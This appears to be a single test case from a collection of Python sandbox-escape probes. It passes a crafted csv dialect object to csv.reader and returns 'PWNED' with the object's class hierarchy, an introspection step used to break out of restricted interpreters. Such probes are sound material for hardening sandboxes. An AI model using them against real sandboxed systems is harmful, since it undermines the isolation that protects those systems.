# attack: csv-dialect
# layer: language
# class: escape
# success: a dialect of csv reads attributes of an object by name
import csv
class D:
    delimiter = ","
    quotechar = '"'
    lineterminator = "\n"
    skipinitialspace = (x for x in [1])
def run():
    r = csv.reader(["a,b"], dialect=D())
    return "PWNED " + repr(r.dialect.__class__.__mro__)
